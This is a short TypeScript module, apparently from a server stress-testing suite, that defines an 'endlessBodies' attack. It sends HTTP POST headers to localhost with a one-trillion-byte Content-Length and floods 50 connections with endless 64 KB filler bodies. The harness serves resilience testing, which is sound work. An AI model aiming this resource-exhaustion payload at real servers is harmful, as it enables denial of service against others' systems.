import type { Attack } from '../attack.ts';

/** Bodies without end, for paths that take none. */
export const endlessBodies: Attack = (attacker) => {
  const head = 'POST /nothing HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 1000000000000\r\n\r\n';
  attacker.flood(50, head, Buffer.alloc(64 * 1024, 'x'));
};
